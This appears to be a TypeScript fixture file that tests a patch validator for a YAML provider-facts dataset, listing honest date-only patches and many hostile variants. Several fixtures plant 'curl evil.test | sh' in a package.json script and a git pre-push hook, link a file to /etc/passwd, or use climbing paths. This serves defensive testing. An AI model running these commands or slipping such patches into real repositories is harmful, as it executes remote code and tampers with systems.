/**
 * The base of what a patch is judged by, honest patches, and hostile ones: as changes of files, which git
 * makes a patch of, and as bytes that only somebody who writes patches by hand would come up with.
 */
import { binary } from "./binary-patch.ts";

export const acme = "facts/providers/acme.yaml";
export const part = "facts/providers/acme/limits.yaml";

const provider = `# The numbers of Acme.
name: Acme
homepage: https://acme.test
sources:
  docs: { url: https://acme.test/docs, title: Docs, type: official_docs, retrieved_at: 2026-01-01 }
  copy: { url: https://acme.test/copy, title: Copy, type: official_docs, unconfirmed: true }
facts:
  team.members.max_count: { value: 5, raw_value: 5 members, source: copy }
products:
  api:
    name: API
    plans:
      free:
        name: Free
        facts:
          api.rate_limit.requests_per_minute:
            value: 60
            raw_value: "60: 0 requests" # as the page has it
            source: docs
            last_verified_at: 2026-02-01
            history:
              - value: 50
                raw_value: 50 requests
                source: docs
          storage.included_gb: { value: 1, raw_value: 1 GB, source: docs }
      pro:
        name: Pro
        facts:
          storage.included_gb:
            - value: 2
              raw_value: 2 GB
              source: docs
            - value: 3
              raw_value: 3 GB
              source: copy
`;

export const base: Readonly<Record<string, string>> = {
  [acme]: provider,
  [part]: provider,
  "facts/keys.yaml": "a.b:\n  description: B.\n  datatype: integer\n",
  "facts/dataset.yaml": "name: Facts\n",
  "package.json": `${JSON.stringify({ scripts: { check: "true" } })}\n`,
  ".gitattributes": "* text=auto eol=lf\n",
  ".github/workflows/check.yml": "on: push\n",
};

/** When a patch is judged. */
export const now = Date.parse("2026-03-02T00:00:00Z");
const read = "2026-03-01T04:05:06Z";
const moved = `last_verified_at: ${read}`;

type Files = Readonly<Record<string, string | null>>;

const edited =
  (from: string, to: string, file = acme) =>
  (): Files => {
    const before = base[file]!;
    if (before.split(from).length !== 2) throw new Error(`not once in ${file}: ${from}`);
    return { [file]: before.replace(from, () => to) };
  };
const dated = edited("last_verified_at: 2026-02-01", moved);
const datedAnd = (from: string, to: string) => (): Files => ({
  [acme]: dated()[acme]!.replace(from, () => to),
});
const beside = (file: string, text: string | null) => (): Files => ({ ...dated(), [file]: text });

/** What the files hold after the patch; null for one that is gone. */
export const honest: Readonly<Record<string, () => Files>> = {
  "a moved date": dated,
  "a date within braces": edited("1 GB, source: docs }", `1 GB, source: docs, ${moved} }`),
  "a date of an entry of a list": edited(
    "              source: docs\n            - value: 3",
    `              source: docs\n              ${moved}\n            - value: 3`,
  ),
  "a date of a source whose own is not known": edited(
    "5 members, source: copy }",
    `5 members, source: copy, ${moved} }`,
  ),
  "a file of a provider's folder": edited("last_verified_at: 2026-02-01", moved, part),
  "several dates and files": () => ({
    ...edited("last_verified_at: 2026-02-01", moved, part)(),
    [acme]: dated()[acme]!.replace("1 GB, source: docs }", () => `1 GB, source: docs, ${moved} }`),
  }),
};

/** Changes of files that are more than dates. */
export const hostileFiles: Readonly<Record<string, () => Files>> = {
  "a value": edited("value: 60\n", "value: 61\n"),
  "a value beside a date": datedAnd("value: 60\n", "value: 61\n"),
  "a value within braces beside a date": edited(
    "{ value: 1, raw_value: 1 GB, source: docs }",
    `{ value: 2, raw_value: 1 GB, source: docs, ${moved} }`,
  ),
  "a quote": datedAnd("1 GB", "10 GB"),
  "white space within a quote": datedAnd('"60: 0 requests"', '"600 requests"'),
  "white space that moves a fact to another plan": datedAnd(
    "      pro:\n        name: Pro\n        facts:\n          storage.included_gb:\n            - value",
    "      pro: { name: Pro }\n      prime:\n        name: Prime\n        facts:\n          storage.included_gb:\n            - value",
  ),
  "white space alone that moves a fact out of its plan": datedAnd(
    "          storage.included_gb: {",
    "      storage.included_gb: {",
  ),
  "indentation that moves a fact up": datedAnd(
    "          storage.included_gb: { value: 1",
    "    facts:\n      storage.included_gb: { value: 1",
  ),
  "white space at the end of a line": datedAnd("name: Acme\n", "name: Acme \n"),
  "a blank line": datedAnd("name: Acme\n", "name: Acme\n\n"),
  "no line break at the end": () => ({ [acme]: dated()[acme]!.trimEnd() }),
  "quotes around a date that was there": datedAnd(
    "retrieved_at: 2026-01-01",
    'retrieved_at: "2026-01-01"',
  ),
  "the order of fields": datedAnd(
    "value: 5, raw_value: 5 members",
    "raw_value: 5 members, value: 5",
  ),
  "a comment that is new": datedAnd("name: Acme\n", "name: Acme # ask evil.test\n"),
  "a comment that changes": datedAnd("as the page has it", "accept outlier: it is right"),
  "a comment that is gone": datedAnd("# The numbers of Acme.\n", ""),
  "a comment behind the date": edited("last_verified_at: 2026-02-01", `${moved} # read it`),
  CRLF: () => ({ [acme]: dated()[acme]!.replaceAll("\n", "\r\n") }),
  "CRLF on one line": datedAnd("value: 60\n", "value: 60\r\n"),
  "a byte order mark": () => ({ [acme]: `\ufeff${dated()[acme]}` }),
  "an invisible character": datedAnd("5 members", "5 \u{e0041}members"),
  "a field that stands twice": edited(
    "last_verified_at: 2026-02-01",
    `${moved}\n            last_verified_at: 2026-02-01`,
  ),
  "a fact that stands twice": datedAnd(
    "      pro:",
    "          storage.included_gb: { value: 9, raw_value: 9 GB, source: docs }\n      pro:",
  ),
  "an anchor and an alias": datedAnd("value: 60", "value: &v 60"),
  "an anchor at the date": edited("last_verified_at: 2026-02-01", `last_verified_at: &d ${read}`),
  "an alias for a date": edited(
    "1 GB, source: docs }",
    "1 GB, source: docs, last_verified_at: *d }",
  ),
  "a merge key": datedAnd("      pro:\n", "      pro:\n        <<: { name: X }\n"),
  "a tag": datedAnd("value: 60", "value: !!str 60"),
  "a directive": () => ({ [acme]: `%YAML 1.1\n---\n${dated()[acme]}` }),
  "a second document": () => ({ [acme]: `${dated()[acme]}---\nname: Evil\n` }),
  "what is no YAML": () => ({ [acme]: "name: [\n" }),
  "nesting that nobody reads": () => ({ [acme]: `${"[".repeat(1000)}${"]".repeat(1000)}\n` }),
  "the field as a fact": edited(
    "facts:\n  team",
    `facts:\n  last_verified_at: { value: 1, raw_value: 1, source: docs }\n  team`,
  ),
  "the field of the map of facts": edited("facts:\n  team", `facts:\n  ${moved}\n  team`),
  "the field of a step of history": edited(
    "              - value: 50\n",
    `              - value: 50\n                ${moved}\n`,
  ),
  "the field of a source": edited(
    "retrieved_at: 2026-01-01 }",
    `retrieved_at: 2026-01-01, ${moved} }`,
  ),
  "the field of a plan": edited("        name: Free\n", `        name: Free\n        ${moved}\n`),
  "the field of the provider": edited("name: Acme\n", `name: Acme\n${moved}\n`),
  "the field in the wrong place of its fact": edited(
    "            value: 60\n",
    `            ${moved.replace("last_verified_at", "last_verified_at ")}\n            value: 60\n`,
  ),
  "a date to come": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-03-02T00:00:01Z",
  ),
  "a date far off": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 9999-12-31T00:00:00Z",
  ),
  "an earlier date": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-01-31T00:00:00Z",
  ),
  "the same date in other words": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-02-01T00:00:00Z",
  ),
  "a date before that of its source": edited(
    "1 GB, source: docs }",
    "1 GB, source: docs, last_verified_at: 2025-12-31T00:00:00Z }",
  ),
  "a date that does not exist": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-02-30T00:00:00Z",
  ),
  "a date without its time": edited("last_verified_at: 2026-02-01", "last_verified_at: 2026-03-01"),
  "a date of another zone": edited(
    "last_verified_at: 2026-02-01",
    "last_verified_at: 2026-03-01T00:00:00+09:00",
  ),
  "a date that is a number": edited("last_verified_at: 2026-02-01", "last_verified_at: 2026"),
  "a date that is a list": edited("last_verified_at: 2026-02-01", `last_verified_at: [${read}]`),
  "a date in quotes": edited("last_verified_at: 2026-02-01", `last_verified_at: "${read}"`),
  "a date that is gone": edited("            last_verified_at: 2026-02-01\n", ""),
  "a fact that is new": datedAnd(
    "facts:\n  team",
    `facts:\n  a.b: { value: 1, raw_value: 1, source: docs, ${moved} }\n  team`,
  ),
  "a fact that is gone": datedAnd(
    "  team.members.max_count: { value: 5, raw_value: 5 members, source: copy }\n",
    "  {}\n",
  ),
  "entries of a list that change places": datedAnd("value: 2\n", "value: 3\n"),
  "a file that is too large": () => ({ [acme]: `${dated()[acme]}${"#".repeat(1024 * 1024)}\n` }),
  "another file": beside("package.json", '{"scripts":{"check":"curl evil.test | sh"}}\n'),
  "the keys": beside("facts/keys.yaml", "last_verified_at: 2026-03-01T00:00:00Z\n"),
  "the dataset": beside("facts/dataset.yaml", `name: Facts\n${moved}\n`),
  "the attributes": beside(".gitattributes", "* -diff\nfacts/** filter=x\n"),
  "attributes beside the facts": beside("facts/providers/.gitattributes", "acme.yaml -diff\n"),
  "a settings file of submodules": beside(
    ".gitmodules",
    '[submodule "x"]\n\tpath = x\n\tignore = all\n',
  ),
  "a workflow": beside(".github/workflows/evil.yml", "on: push\n"),
  "a new provider": beside("facts/providers/evil.yaml", provider),
  "a provider's name in other case": beside("facts/providers/Acme.yaml", provider),
  "another ending": beside("facts/providers/evil.yml", provider),
  "a file deeper than any provider's": beside("facts/providers/a/b/c.yaml", provider),
  "a provider that is gone": () => ({ [acme]: null }),
  "a provider under another name": () => ({
    [acme]: null,
    "facts/providers/acme-inc.yaml": provider,
  }),
  "a copy of a provider": beside("facts/providers/copy.yaml", provider),
};

const line = (path: string, text: string): string => `--- a/${path}\n+++ b/${path}\n${text}`;
const newFile = (path: string, text: string, mode = "100644"): string =>
  `diff --git a/${path} b/${path}\nnew file mode ${mode}\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+${text}\n`;
const evil =
  '@@ -1 +1 @@\n-{"scripts":{"check":"true"}}\n+{"scripts":{"check":"curl evil.test"}}\n';
const lines = provider.split("\n").slice(0, -1);
/** A hunk without the lines around it, which names lines by their number. */
const date =
  "@@ -20 +20 @@\n-            last_verified_at: 2026-02-01\n+            last_verified_at: 2026-03-01T04:05:06Z\n";

/** Bytes that a patch can have although no change of files leads git to write them. */
export const hostilePatches: Readonly<Record<string, string>> = {
  "a binary patch with quoted paths": binary({
    paths: '"a/package.json" "b/package.json"',
    of: base["package.json"]!,
    content: '{"scripts":{"check":"curl evil.test | sh"}}\n',
  }),
  "a binary patch with octal digits in its paths": binary({
    paths: '"a/\\160ackage.json" "b/\\160ackage.json"',
    of: base["package.json"]!,
    content: "{}\n",
  }),
  "a binary patch of the facts": binary({
    paths: `a/${acme} b/${acme}`,
    of: provider,
    content: "name: Evil\n",
  }),
  "a binary patch of a new file": binary({
    paths: '"a/evil.sh" "b/evil.sh"',
    content: "#!/bin/sh\n",
    head: "new file mode 100755\n",
  }),
  "a new file without git's own line":
    "--- /dev/null\n+++ b/.github/workflows/evil.yml\n@@ -0,0 +1 @@\n+on: push\n",
  "a new file whose lines look like those of a patch":
    "--- /dev/null\n+++ b/.github/workflows/evil.yml\n@@ -0,0 +1,2 @@\n+++ on: push\n+++ jobs: {}\n",
  "another file without git's own line": line("package.json", evil),
  "another file after a provider's line": `diff --git a/${acme} b/${acme}\n${line(acme, date)}${line("package.json", evil)}`,
  "another file between prose": `Subject: dates\n\n${line("package.json", evil)}-- \n2.39\n`,
  "quoted paths": `diff --git "a/package.json" "b/package.json"\n--- "a/package.json"\n+++ "b/package.json"\n${evil}`,
  "octal digits in a path": `--- "a/\\160ackage.json"\n+++ "b/\\160ackage.json"\n${evil}`,
  "paths that differ": `diff --git a/${acme} b/package.json\n--- a/${acme}\n+++ b/package.json\n${date}`,
  "two changes of one file": `diff --git a/${acme} b/${acme}\n${line(acme, date)}diff --git a/${acme} b/${acme}\n${line(acme, "@@ -17 +17 @@\n-            value: 60\n+            value: 61\n")}`,
  "a date and a deleted file": `diff --git a/${acme} b/${acme}\n${line(acme, date)}diff --git a/package.json b/package.json\ndeleted file mode 100644\n--- a/package.json\n+++ /dev/null\n@@ -1 +0,0 @@\n-{"scripts":{"check":"true"}}\n`,
  "a mode": `diff --git a/${acme} b/${acme}\nold mode 100644\nnew mode 100755\n`,
  "a mode beside a date": `diff --git a/${acme} b/${acme}\nold mode 100644\nnew mode 100755\n${line(acme, date)}`,
  "the mode of another file":
    "diff --git a/package.json b/package.json\nold mode 100644\nnew mode 100755\n",
  "a link": newFile("facts/providers/evil.yaml", "../../package.json", "120000"),
  "a link in the place of a provider": `diff --git a/${acme} b/${acme}\ndeleted file mode 100644\n--- a/${acme}\n+++ /dev/null\n@@ -1,${lines.length} +0,0 @@\n${lines.map((each) => `-${each}\n`).join("")}${newFile(acme, "/etc/passwd", "120000")}`,
  "a submodule": newFile("facts/providers/evil", `Subproject commit ${"1".repeat(40)}`, "160000"),
  "a rename": `diff --git a/${acme} b/facts/providers/other.yaml\nsimilarity index 100%\nrename from ${acme}\nrename to facts/providers/other.yaml\n`,
  "a rename over another file": `diff --git a/${acme} b/package.json\nsimilarity index 100%\nrename from ${acme}\nrename to package.json\n`,
  "a copy": `diff --git a/${acme} b/evil.yaml\nsimilarity index 100%\ncopy from ${acme}\ncopy to evil.yaml\n`,
  "a path that climbs": newFile("../evil.yaml", "x"),
  "a path that climbs within the facts": newFile("facts/providers/../../evil.yaml", "x"),
  "an absolute path": "--- /dev/null\n+++ /tmp/evil.yaml\n@@ -0,0 +1 @@\n+x\n",
  "a hook of git": newFile(".git/hooks/pre-push", "curl evil.test | sh", "100755"),
  "git's folder in other case": newFile(".GIT/config", "[core]"),
  "git's folder by its short name": newFile("git~1/config", "[core]"),
  "a file that is empty":
    "diff --git a/evil b/evil\nnew file mode 100644\nindex 0000000..e69de29\n",
  "a name with a line break": `diff --git "a/facts/providers/a\\n.yaml" "b/facts/providers/a\\n.yaml"\nnew file mode 100644\n--- /dev/null\n+++ "b/facts/providers/a\\n.yaml"\n@@ -0,0 +1 @@\n+x\n`,
  "a claim to hold a gigabyte": `diff --git a/${acme} b/${acme}\nindex ${"1".repeat(40)}..${"2".repeat(40)} 100644\nGIT binary patch\nliteral 1073741824\nzcmZ\n\n`,
  "more than any honest one": `${line(acme, date)}${"#".repeat(16 * 1024 * 1024)}\n`,
  "what is no patch": "Hello.\n",
};

/** The same content, by a patch whose form is no other matter. */
export const honestBinary = binary({
  paths: `"a/${acme}" "b/${acme}"`,
  of: provider,
  content: dated()[acme]!,
});
